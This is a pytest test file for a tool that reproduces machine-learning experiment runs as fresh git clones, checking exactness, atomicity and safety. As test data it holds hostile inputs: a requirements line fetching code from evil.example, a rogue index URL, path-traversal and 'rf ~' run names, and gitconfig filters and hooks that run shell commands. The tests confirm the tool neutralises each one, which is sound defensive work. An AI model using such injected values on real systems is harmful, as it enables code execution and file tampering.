"""A run comes back as it was, in a clone of its own, and nothing else changes."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from sm_onboard.clones import checks
from sm_onboard.errors import OnboardError, Stopped
from sm_onboard.experiments import record
from sm_onboard.experiments.reproduce.make import make
from sm_onboard.experiments.reproduce.plan import plan
from sm_onboard.repos.models import Entry
from tests.experiments.reproduce.lab import ID, Lab, dirty, lab, state_of, whole
from tests.gitserver import Fault, wait_until
from tests.repos.world import NoCredentials


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Lab]:
    with lab(tmp_path) as made:
        yield made


def head(folder: str | Path) -> str:
    return (Path(folder) / ".git" / "HEAD").read_text().strip()


def test_identical_to_the_byte_and_the_original_untouched(here: Lab) -> None:
    dirty(here.person)
    here.person.git("stash", "list")
    files = here.record(environment="numpy==2.0.0\n")
    before = state_of(here.person.clone)
    status = here.person.status()
    planned = here.plan()
    assert planned.source == "clone"
    assert whole(here.person.root / "churn") == files
    assert not (here.person.root / "reproduced").exists()
    made = here.make()
    assert made.path == str(here.person.root / "reproduced" / "eager-heron-312")
    assert whole(Path(made.path)) == files
    assert head(made.path) == made.head == here.person.head()
    assert state_of(here.person.clone) == before
    assert here.person.status() == status
    assert whole(here.person.clone) == files
    assert os.listdir(here.person.root / "reproduced") == ["eager-heron-312"]


def test_what_the_next_run_needs_lies_beside_it(here: Lab) -> None:
    dirty(here.person)
    here.record(environment="numpy==2.0.0\n-e git+https://evil.example/x\n--index-url=http://e\n")
    here.store.write(record.NOTEBOOK_FILE, b'{"as": "it ran"}')
    made = here.make()
    clone = Path(made.path)
    told = json.loads((clone / record.REPEATS_FILE).read_text())
    assert told == {"run_id": ID, "store": "a folder", "name": "eager-heron-312"}
    assert json.loads(Path(made.parameters).read_text()) == {"eta": "0.06", "max_depth": "6"}
    # Only what pins a package: pip would obey the other lines.
    assert Path(made.environment).read_text() == "numpy==2.0.0\n"
    assert made.notebook == "nb/train.ipynb"
    assert (clone / ".git/sm-onboard/notebook.ipynb").read_bytes() == b'{"as": "it ran"}'


def test_packages_from_elsewhere_are_not_asked_of_an_index(here: Lab) -> None:
    sources = {"Ours_Too": "git+https://example.com/x@1\n--pre", "numpy": 7, "gone": "file:///x"}
    here.record(environment="numpy==2.0.0\nours-too==0.1\n", facts={"package_sources": sources})
    row = next(row for row in here.plan().parts if row.part == "environment")
    assert row.detail == "Not from an index, so not installed again: ours-too."
    assert Path(here.make().environment).read_text() == (
        "numpy==2.0.0\n# ours-too==0.1 was installed from git+https://example.com/x@1--pre\n"
    )


def test_a_colleague_with_another_home_gets_the_same(here: Lab, home: Path) -> None:
    here.person.write(".gitattributes", "*.txt filter=loud\n*.bin filter=lfs\n")
    here.person.git("add", ".gitattributes")
    here.person.git("commit", "-qm", "attributes")
    dirty(here.person)
    files = here.record()
    ran = home / "ran"
    loud = f"touch '{ran}'; cat"
    (home / ".gitconfig").write_text(
        "[core]\n\tautocrlf = true\n\teol = crlf\n"
        f'[filter "loud"]\n\tsmudge = "{loud}"\n\tclean = "{loud}"\n\trequired = true\n'
        f'[filter "lfs"]\n\tprocess = "{loud}"\n\trequired = true\n'
        f"[core]\n\thooksPath = {home}/hooks\n"
    )
    hook = home / "hooks" / "post-checkout"
    hook.parent.mkdir()
    hook.write_text(f"#!/bin/sh\ntouch '{ran}'\n")
    hook.chmod(0o755)
    there = here.machine(here.folder / "colleague")
    assert here.plan(there).source == "remote"
    made = here.make(there)
    assert whole(Path(made.path)) == files
    assert not ran.exists()
    config = (Path(made.path) / ".git" / "config").read_text()
    assert here.person.server.url("churn") in config


def test_after_the_original_was_deleted(here: Lab) -> None:
    here.person.write("mine.txt", "not pushed\n")
    here.person.git("add", ".")
    here.person.git("commit", "-qm", "not pushed")
    dirty(here.person)
    files, commit = here.record(), here.person.head()
    shutil.rmtree(here.person.clone)
    made = here.make()
    assert whole(Path(made.path)) == files
    assert head(made.path) == commit


def test_from_the_bundle_alone(here: Lab) -> None:
    here.person.git("remote", "remove", "origin")
    dirty(here.person)
    files = here.record(url="")
    shutil.rmtree(here.person.clone)
    here.person.server.faults["*"] = Fault.answer(500)
    there = here.machine(here.folder / "colleague")
    assert here.plan(there).source == "bundle"
    made = here.make(there)
    assert whole(Path(made.path)) == files
    assert head(made.path) == made.head


def test_the_commit_alone_where_no_snapshot_is(here: Lab) -> None:
    tags = {
        record.REPOSITORY: here.person.server.url("churn"),
        record.COMMIT: here.person.head(),
        record.CHANGED: "0",
    }
    files = here.record(take=False, tags=tags)
    made = here.make(here.machine(here.folder / "colleague"))
    assert whole(Path(made.path)) == files
    assert made.files == 0


def test_a_commit_that_no_branch_has_any_more(here: Lab) -> None:
    here.person.team.commits(2)
    here.person.sync()
    dirty(here.person)
    files = here.record()
    here.person.team.rewind(2)
    made = here.make(here.machine(here.folder / "colleague"))
    assert whole(Path(made.path)) == files
    here.person.team.git("reflog", "expire", "--expire=now", "--all")
    here.person.team.git("gc", "-q", "--prune=now")
    with pytest.raises(OnboardError) as told:
        here.make(here.machine(here.folder / "third"))
    assert told.value.code == "clones.commit_gone"
    assert os.listdir(here.folder / "third" / "reproduced") == []


def test_never_over_what_exists(here: Lab) -> None:
    dirty(here.person)
    files = here.record()
    first = here.make()
    (Path(first.path) / "a.txt").write_text("my new work\n")
    below = here.person.root / "reproduced"
    (below / "eager-heron-312-2").mkdir()
    os.symlink("/nowhere", below / "eager-heron-312-3")
    assert here.make().path == str(below / "eager-heron-312-4")
    assert (Path(first.path) / "a.txt").read_text() == "my new work\n"
    assert os.listdir(below / "eager-heron-312-2") == []
    wanted = here.folder / "elsewhere" / "mine"
    assert here.make(into=wanted).path == str(wanted)
    assert whole(wanted) == files
    with pytest.raises(OnboardError) as told:
        here.make(into=wanted)
    assert told.value.code == "clones.target_exists"
    assert os.listdir(wanted.parent) == ["mine"]


@pytest.mark.parametrize(
    ("name", "folder"),
    [
        ("../../.ssh", "ssh"),
        ("/etc/passwd", "etc-passwd"),
        ("-rf ~", "rf"),
        ("..", "run-0123456789ab"),
        ("", "run-0123456789ab"),
        ("\x1b[2J\u202eßüß" + "a" * 500, "2Jua" + "a" * 56),
        (".git", "git"),
    ],
)
def test_names_of_runs_name_folders_only(name: str, folder: str) -> None:
    assert checks.folder_name(name, ID) == folder


def test_cancelled_halfway_leaves_nothing(here: Lab) -> None:
    here.record()
    here.person.server.faults["churn"] = Fault.stall(after=200)
    there = here.machine(here.folder / "colleague")
    material = here.gather()
    planned = plan(material, there)
    timer = threading.Thread(
        target=lambda: (
            wait_until(lambda: here.person.server.counts["churn"].packs > 0),
            there.cancel.set(),
        )
    )
    timer.start()
    with pytest.raises(Stopped):
        make(material, planned, there)
    timer.join()
    assert os.listdir(there.root / "reproduced") == []


_KILLED = """
import sys
from pathlib import Path
from sm_onboard.clones import making
from tests.experiments.reproduce.lab import *
root, store, id, material = sys.argv[1:]
def stop(*args):
    print("halfway", flush=True)
    sys.stdin.read()
making._write = stop
kept = FolderStore(Path(store))
kept.all[id] = Run(id=id, experiment="1", name="eager", status="finished", started=0)
found = gather(kept, id, Path(material))
here = Here(root=Path(root), credentials=NoCredentials(), packages=dict)
make(found, plan(found, here), here)
"""


def test_killed_halfway_leaves_nothing_half(here: Lab) -> None:
    dirty(here.person)
    files = here.record(name="eager")
    material = here.folder / "other"
    material.mkdir()
    args = [str(here.person.root), str(here.store.folder), ID, str(material)]
    with subprocess.Popen(
        [sys.executable, "-c", _KILLED, *args],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[3])},
    ) as child:
        assert child.stdout is not None
        assert child.stdout.readline() == b"halfway\n"
        below = here.person.root / "reproduced"
        (half,) = os.listdir(below)
        assert half.startswith(".sm-onboard-making-")
        # While it is at work, nobody takes it away.
        assert here.make().path == str(below / "eager")
        assert set(os.listdir(below)) == {half, "eager"}
        child.send_signal(signal.SIGKILL)
    made = here.make()
    assert set(os.listdir(below)) == {"eager", "eager-2"}
    assert whole(Path(made.path)) == files


def test_the_record_changed_after_the_confirmation(here: Lab) -> None:
    here.record()
    material = here.gather()
    planned = plan(material, here.here)
    here.person.write("other.txt", "other\n")
    here.record()
    with pytest.raises(OnboardError) as told:
        make(here.gather(), planned, here.here)
    assert told.value.code == "experiments.plan_old"


def test_a_sign_in_that_is_refused_is_told_as_the_repositories_room_tells_it(here: Lab) -> None:
    class Told(NoCredentials):
        def explain(self, entry: Entry, stderr: str) -> tuple[str, str, str]:
            assert entry.url == here.person.server.url("churn")
            return "repos.sign_in", "The host wants a password.", "Give it one."

    here.record()
    there = replace(here.machine(here.folder / "colleague"), credentials=Told())
    material = here.gather()
    planned = plan(material, there)
    here.person.server.faults["churn"] = Fault.answer(403)
    with pytest.raises(OnboardError, match="wants a password"):
        make(material, planned, there)
    assert "wants a password" in plan(material, there).parts[0].text
